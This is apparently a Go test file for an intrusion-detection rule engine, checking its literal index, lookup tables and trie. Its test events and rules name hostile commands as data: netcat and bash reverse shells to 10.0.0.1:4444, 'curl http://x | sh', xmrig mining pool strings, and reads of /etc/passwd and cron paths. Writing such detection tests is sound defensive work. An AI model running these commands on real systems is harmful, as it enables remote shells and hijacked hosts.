package engine

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/internal/event"
)

// TestLiteralIndex evaluates one rule per case with and without the literal index:
// both must agree with the expected result, and the rule must be indexed (have a
// need) exactly when the case says so.
func TestLiteralIndex(t *testing.T) {
	proc := func(path, cmd string) event.Event {
		return event.Event{Type: event.NewProcess, FilePath: path, CommandLine: cmd, User: "root", Tags: []string{"role:web", "env:prod"}}
	}
	open := func(target string) event.Event {
		return event.Event{Type: event.FileOpen, FilePath: "/usr/bin/cat", TargetPath: target}
	}
	long := strings.Repeat("x", 300)
	withList := func(e event.Event, items ...string) event.Event {
		e.Environment, e.Args = items, items
		return e
	}
	tests := []struct {
		name    string
		typ     string
		body    string
		ev      event.Event
		match   bool
		indexed bool
	}{
		{"suffix", "NEW_PROCESS", "  op: ends with\n  path: event/FILE_PATH\n  value: /nc", proc("/usr/bin/nc", ""), true, true},
		{"suffix miss", "NEW_PROCESS", "  op: ends with\n  path: event/FILE_PATH\n  value: /nc", proc("/usr/bin/ncat", ""), false, true},
		{"prefix", "FILE_OPEN", "  op: starts with\n  path: event/TARGET/FILE_PATH\n  value: /etc/", open("/etc/passwd"), true, true},
		{"prefix miss", "FILE_OPEN", "  op: starts with\n  path: event/TARGET/FILE_PATH\n  value: /etc/", open("/var/etc/passwd"), false, true},
		{"fold exact, long s", "NEW_PROCESS", "  op: is\n  path: event/FILE_NAME\n  value: sh\n  case sensitive: false", proc("/bin/\u017fh", ""), true, true},
		{"fold list, Kelvin sign", "NEW_PROCESS", "  op: in list\n  path: event/FILE_NAME\n  values: [kill, ksh]\n  case sensitive: false", proc("/bin/\u212ash", ""), true, true},
		{"fold list, upper case", "NEW_PROCESS", "  op: in list\n  path: event/FILE_NAME\n  values: [kill, ksh]\n  case sensitive: false", proc("/bin/KSH", ""), true, true},
		{"fold contains", "NEW_PROCESS", "  op: contains\n  path: event/COMMAND_LINE\n  value: stratum+tcp\n  case sensitive: false", proc("/tmp/x", "XMRIG -o STRATUM+TCP://pool:3333"), true, true},
		{"fold contains, long value", "NEW_PROCESS", "  op: contains\n  path: event/COMMAND_LINE\n  value: abc\n  case sensitive: false", proc("/tmp/x", long+"ABC"), true, true},
		{"contains miss", "NEW_PROCESS", "  op: contains\n  path: event/COMMAND_LINE\n  value: stratum+tcp", proc("/tmp/x", "xmrig -o STRATUM+TCP://pool"), false, true},
		{"anchored prefix", "NEW_PROCESS", "  op: matches\n  path: event/FILE_PATH\n  re: '^/(usr/)?s?bin/[^/]+$'", proc("/usr/sbin/iptables", ""), true, true},
		{"anchored suffix", "NEW_PROCESS", "  op: matches\n  path: event/FILE_PATH\n  re: '\\.(sh|py)$'", proc("/tmp/run.py", ""), true, true},
		{"anchored exact", "NEW_PROCESS", "  op: matches\n  path: event/FILE_NAME\n  re: '^(nc|ncat)$'", proc("/usr/bin/ncat", ""), true, true},
		{"anchored, fold", "NEW_PROCESS", "  op: matches\n  path: event/FILE_PATH\n  re: '^/TMP/'\n  case sensitive: false", proc("/tmp/x", ""), true, true},
		{"anchored both ends", "FILE_OPEN", "  op: matches\n  path: event/TARGET/FILE_PATH\n  re: '(?i)^/etc/(?s:.*)version$'", open("/ETC/debian_VERSION"), true, true},
		{"anchored both ends, miss", "FILE_OPEN", "  op: matches\n  path: event/TARGET/FILE_PATH\n  re: '(?i)^/etc/(?s:.*)version$'", open("/etc/passwd"), false, true},
		{"factored alternatives", "FILE_OPEN", "  op: matches\n  path: event/TARGET/FILE_PATH\n  re: '^(/etc/crontab$|/etc/cron\\.(d|daily)/|/var/spool/cron/)'", open("/etc/cron.daily/x"), true, true},
		{"factored alternatives, miss", "FILE_OPEN", "  op: matches\n  path: event/TARGET/FILE_PATH\n  re: '^(/etc/crontab$|/etc/cron\\.(d|daily)/|/var/spool/cron/)'", open("/etc/crontab.bak"), false, true},
		{"regex literals", "NEW_PROCESS", "  op: matches\n  path: event/COMMAND_LINE\n  re: '(wget|curl) .*\\| *sh'", proc("/bin/sh", "curl http://x | sh"), true, true},
		{"port", "NETWORK_CONNECT", "  op: in list\n  path: event/DESTINATION/PORT\n  values: [4444, 1337]", event.Event{Type: event.NetworkConnect, DestPort: 1337}, true, true},
		{"or of fields", "NEW_PROCESS", "  op: or\n  rules:\n    - op: is\n      path: event/FILE_NAME\n      value: nc\n    - op: contains\n      path: event/COMMAND_LINE\n      value: '-e /bin/sh'", proc("/usr/bin/ncat", "ncat -e /bin/sh x"), true, true},
		{"or with a negation", "NEW_PROCESS", "  op: or\n  rules:\n    - op: is\n      path: event/FILE_NAME\n      value: nc\n    - op: is\n      not: true\n      path: event/USER\n      value: root", proc("/usr/bin/ls", ""), false, false},
		{"and picks a literal", "NEW_PROCESS", "  op: and\n  rules:\n    - op: exists\n      path: event/USER\n    - op: ends with\n      path: event/FILE_PATH\n      value: /nc", proc("/usr/bin/nc", ""), true, true},
		{"list contains, fold", "NEW_PROCESS", "  op: contains\n  path: event/ENVIRONMENT\n  value: glibc_tunables\n  case sensitive: false", withList(proc("/bin/su", ""), "PATH=/bin", "GLIBC_TUNABLES=glibc.malloc"), true, true},
		{"list contains miss", "NEW_PROCESS", "  op: contains\n  path: event/ENVIRONMENT\n  value: GLIBC_TUNABLES", withList(proc("/bin/su", ""), "PATH=/bin"), false, true},
		{"list in list", "NEW_PROCESS", "  op: in list\n  path: event/ARGS\n  values: [-e, --exec]", withList(proc("/bin/nc", ""), "nc", "--exec", "/bin/sh"), true, true},
		{"list anchored", "NEW_PROCESS", "  op: matches\n  path: event/ARGS\n  re: '^/dev/(tcp|udp)/'", withList(proc("/bin/bash", ""), "bash", "/dev/tcp/10.0.0.1/4444"), true, true},
		{"is tagged", "NEW_PROCESS", "  op: is tagged\n  tag: env:prod", proc("/bin/ls", ""), true, true},
		{"two needs", "NEW_PROCESS", "  op: and\n  rules:\n    - op: ends with\n      path: event/FILE_PATH\n      value: /nc\n    - op: contains\n      path: event/COMMAND_LINE\n      value: ' -e '", proc("/usr/bin/nc", "nc -e /bin/sh x"), true, true},
		{"two needs, second misses", "NEW_PROCESS", "  op: and\n  rules:\n    - op: ends with\n      path: event/FILE_PATH\n      value: /nc\n    - op: contains\n      path: event/COMMAND_LINE\n      value: ' -e '", proc("/usr/bin/nc", "nc -l 4444"), false, true},
		{"negation only", "NEW_PROCESS", "  op: is\n  not: true\n  path: event/FILE_NAME\n  value: sh", proc("/bin/bash", ""), true, false},
		{"prefix, absent value", "FILE_OPEN", "  op: starts with\n  path: event/TARGET/FILE_PATH\n  value: /etc/", open(""), false, true},
		{"empty or prefix, absent value", "NEW_PROCESS", "  op: or\n  rules:\n    - op: is\n      path: event/COMMAND_LINE\n      value: ''\n    - op: starts with\n      path: event/COMMAND_LINE\n      value: bash\n      case sensitive: false", proc("/bin/bash", ""), true, true},
		{"empty value", "NEW_PROCESS", "  op: is\n  path: event/COMMAND_LINE\n  value: ''", proc("/bin/bash", ""), true, true},
		{"error code 0", "NETWORK_CONNECT", "  op: is\n  path: event/ERROR_CODE\n  value: 0", event.Event{Type: event.NetworkConnect}, true, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r, err := Parse("r.yaml", []byte(detRule(tc.typ, tc.body)))
			if err != nil {
				t.Fatal(err)
			}
			nd, ok := needOf(r.root, false)
			if indexed := ok && nd.cost < noNeed; indexed != tc.indexed {
				t.Errorf("indexed = %v (need %+v), want %v", indexed, nd, tc.indexed)
			}
			for _, unindexed := range []bool{false, true} {
				eng, err := newEngine([]*Rule{r}, unindexed)
				if err != nil {
					t.Fatal(err)
				}
				ev := tc.ev
				if got := len(eng.Eval(&ev, nil)) == 1; got != tc.match {
					t.Errorf("unindexed=%v: match = %v, want %v", unindexed, got, tc.match)
				}
			}
		})
	}
}

// TestCommaItem checks the test of (^|,)item(,|$) without the expression against
// the expression itself.
func TestCommaItem(t *testing.T) {
	for _, src := range []string{`(^|,)write(,|$)`, `(^|,)O_CREAT(,|$)`, `(^|,)a.b(,|$)`, `(?i)(^|,)write(,|$)`} {
		re := regexp.MustCompile(src)
		rt := newReTest(re, src)
		if wantItem := !strings.Contains(src, ".") && !strings.HasPrefix(src, "(?i)"); (rt.item != "") != wantItem {
			t.Errorf("%s: item %q, want one: %v", src, rt.item, wantItem)
		}
		for _, s := range []string{"", "write", "read,write", "write,read", "writer", "rewrite", ",write", "write,",
			"read,", "a,,write", "WRITE", "O_CREAT", "O_RDWR,O_CREAT,O_EXCL", "axb", "a.b", "x,a.b", "write\n", "\nwrite"} {
			if got, want := rt.test(s), re.MatchString(s); got != want {
				t.Errorf("%s on %q: %v, the expression says %v", src, s, got, want)
			}
		}
	}
}

// FuzzIndex compares the evaluation of a rule with and without the literal index
// on an event whose strings are fuzzed: the index may never drop a match.
func FuzzIndex(f *testing.F) {
	bodies := []string{
		"  op: ends with\n  path: event/FILE_PATH\n  value: /nc",
		"  op: in list\n  path: event/FILE_NAME\n  values: [kill, ksh]\n  case sensitive: false",
		"  op: contains\n  path: event/COMMAND_LINE\n  value: stratum+tcp\n  case sensitive: false",
		"  op: matches\n  path: event/FILE_PATH\n  re: '(?i)^/etc/(?s:.*)version$'",
		"  op: matches\n  path: event/ARGS\n  re: '^/dev/(tcp|udp)/'",
		"  op: matches\n  path: event/FILE_PATH\n  re: '(?i)^(/etc/crontab$|/etc/cron\\.(d|daily)/|/var/spool/cron/)|\\.SH$'",
		"  op: or\n  rules:\n    - op: is\n      path: event/FILE_NAME\n      value: nc\n    - op: starts with\n      path: event/COMMAND_LINE\n      value: 'ncat -e'\n      case sensitive: false",
	}
	for _, b := range bodies {
		f.Add([]byte(detRule("NEW_PROCESS", b)), "/usr/bin/nc", "NC -e /bin/sh", "/dev/tcp/10.0.0.1/1")
	}
	f.Add([]byte(detRule("NEW_PROCESS", bodies[1])), "/bin/\u212ash", "x", "y")
	f.Add([]byte(detRule("FILE_OPEN", "  op: matches\n  path: event/TARGET/FILE_PATH\n  re: '(^|,)write(,|$)'")), "/bin/\u017fh", "\u212aill", "read,write")
	f.Fuzz(func(t *testing.T, rule []byte, path, cmd, other string) {
		r, err := Parse("fuzz.yaml", rule)
		if err != nil {
			return
		}
		indexed, err := newEngine([]*Rule{r}, false)
		if err != nil {
			t.Fatal(err)
		}
		reference, err := newEngine([]*Rule{r}, true)
		if err != nil {
			t.Fatal(err)
		}
		ev := event.Event{Type: r.Events[0], FilePath: path, CommandLine: cmd, TargetPath: other, ParentFilePath: other,
			FileFlags: other, DomainName: other, Args: []string{path, cmd, other}, Environment: []string{other},
			Tags: []string{cmd}, DestPort: uint16(len(other)), User: cmd}
		got, want := len(indexed.Eval(&ev, nil)), len(reference.Eval(&ev, nil))
		if got != want {
			t.Fatalf("rule:\n%s\nevent %+v: %d matches with the index, %d without", rule, ev, got, want)
		}
	})
}

// TestExactTable looks values up in tables of literals, among them literals the
// hash does not tell apart (equal length, first, middle and last words).
func TestExactTable(t *testing.T) {
	same := func(mid string) string { return "/usr/lib/" + mid + "/x86_64-linux-gnu/lib.so" }
	tests := []struct {
		name string
		keys []string
		look map[string][]int32
	}{
		{"empty", nil, map[string][]int32{"": nil, "a": nil}},
		{"empty literal", []string{"", "a"}, map[string][]int32{"": {0}, "a": {1}, "b": nil}},
		{"short", []string{"a", "ab", "abc", "abcd", "abcde"}, map[string][]int32{"a": {0}, "abc": {2}, "abcde": {4}, "abd": nil, "abcdef": nil}},
		{"long", []string{"/usr/bin/python3", "/usr/bin/python3.12", "/usr/sbin/sshd"}, map[string][]int32{"/usr/bin/python3.12": {1}, "/usr/bin/python3.13": nil, "/usr/sbin/sshd": {2}}},
		{"collisions", []string{same("aa"), same("ab"), same("ba"), same("bb")}, map[string][]int32{same("ab"): {1}, same("bb"): {3}, same("cc"): nil}},
		{"one literal, two rules", []string{"sh", "bash", "sh"}, map[string][]int32{"sh": {0, 2}, "bash": {1}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			x := &exactTable{}
			for i, k := range tc.keys {
				x.add(k, int32(i))
			}
			x.finish()
			for s, want := range tc.look {
				if got := x.get(s); !slices.Equal(got, want) {
					t.Errorf("get(%q) = %v, want %v", s, got, want)
				}
			}
		})
	}
}

// TestTrie marks the literals values start or end with, through nodes whose
// children are scanned and nodes whose children are in a table.
func TestTrie(t *testing.T) {
	many := []string{"/a", "/b", "/c", "/d", "/e", "/f", "/g", "/h"} // the node of / is dense
	tests := []struct {
		name string
		rev  bool
		lits []string
		look map[string][]int32
	}{
		{"prefix", false, []string{"/etc/", "/etc/ssh/", "/usr/"}, map[string][]int32{"/etc/ssh/sshd_config": {0, 1}, "/etc/passwd": {0}, "/et": nil, "/var/etc/": nil, "": nil}},
		{"suffix", true, []string{"/nc", ".sh", "/bin/sh", "sh"}, map[string][]int32{"/bin/sh": {2, 3}, "x.sh": {1, 3}, "/usr/bin/nc": {0}, "/nc/x": nil}},
		{"dense", false, many, map[string][]int32{"/h/x": {7}, "/a": {0}, "/z": nil, "a": nil}},
		{"dense suffix", true, many, map[string][]int32{"x/g": {6}, "/b": {1}, "b": nil}},
		{"four children", false, many[:4], map[string][]int32{"/d/x": {3}, "/a": {0}, "/e": nil}},
		{"five children", false, many[:5], map[string][]int32{"/e/x": {4}, "/a": {0}, "/f": nil}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tr := &trie{}
			for i, l := range tc.lits {
				tr.add(l, tc.rev, int32(i))
			}
			tr.finish()
			for s, want := range tc.look {
				mask := make([]uint64, 1)
				tr.mark(s, mask)
				var got []int32
				for i := range int32(64) {
					if mask[0]&(1<<i) != 0 {
						got = append(got, i)
					}
				}
				if !slices.Equal(got, want) {
					t.Errorf("mark(%q) = %v, want %v", s, got, want)
				}
			}
		})
	}
}
